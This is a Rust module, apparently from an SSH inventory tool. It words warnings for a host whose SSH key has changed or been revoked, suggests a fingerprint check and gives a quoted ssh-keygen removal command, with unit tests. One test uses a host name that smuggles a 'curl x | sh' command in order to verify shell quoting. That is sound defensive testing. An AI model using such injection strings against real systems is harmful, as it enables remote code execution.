//! What to say when a host presents another key than the known one: in words of the inventory, the ssh configuration and
//! known_hosts files alone.

use super::Unreachable;
use super::known_hosts::forget;
use super::presented::{HostKeys, Verdict};

/// That another key is known, or that this one is revoked. `None`: neither is so.
pub(super) fn changed(keys: &HostKeys) -> Option<Unreachable> {
    let Verdict::Changed { place, revoked } = &keys.verdict else {
        return None;
    };
    let presented: Vec<String> = keys
        .keys
        .iter()
        .map(|key| format!("{} {}", key.kind, key.fingerprint))
        .collect();
    let presented = presented.join(", ");
    let name = &keys.name;
    if *revoked {
        return Some(Unreachable::HostKeyChanged {
            why: format!("it presents {presented}, which {place} revokes"),
            help: "whoever answers holds a key that must not be trusted any more: give the host new keys on its console"
                .into(),
        });
    }
    Some(Unreachable::HostKeyChanged {
        why: format!("it presents {presented}, and {place} has another one for {name}"),
        help: format!(
            "somebody may be in between, or the host was installed anew: compare with `ssh-keygen -lf` on the host's console; \
             only if it is the host's own: {}, then keytrail hostkeys --add",
            forget(name, place)
        ),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::remote::PresentedKey;

    fn keys(name: &str, place: &str, revoked: bool) -> HostKeys {
        HostKeys {
            name: name.into(),
            file: "/h/known_hosts".into(),
            verdict: Verdict::Changed {
                place: place.into(),
                revoked,
            },
            keys: vec![PresentedKey {
                kind: "ssh-ed25519".into(),
                fingerprint: "SHA256:abc+/1".into(),
                line: None,
            }],
        }
    }

    #[test]
    fn says_which_key_where_and_how_to_forget_the_old() {
        let refused = changed(&keys("[127.0.0.1]:2222", "/h/known_hosts:3", false)).expect("told");
        assert_eq!(
            refused.to_string(),
            "its SSH host key has changed: it presents ssh-ed25519 SHA256:abc+/1, and /h/known_hosts:3 has another one for \
             [127.0.0.1]:2222"
        );
        assert!(refused.help().contains("console"));
        assert!(
            refused
                .help()
                .contains("ssh-keygen -R '[127.0.0.1]:2222' -f '/h/known_hosts',")
        );
        let refused = changed(&keys("h1", "/h/known_hosts:3", true)).expect("told");
        assert!(!refused.help().contains("ssh-keygen -R"));
    }

    #[test]
    fn words_are_quoted_for_a_shell() {
        let refused = changed(&keys("h1'; curl x | sh; '", "/h/it's:3", false)).expect("told");
        assert!(
            refused
                .help()
                .contains(r"ssh-keygen -R 'h1'\''; curl x | sh; '\''' -f '/h/it'\''s'"),
            "{}",
            refused.help()
        );
    }
}
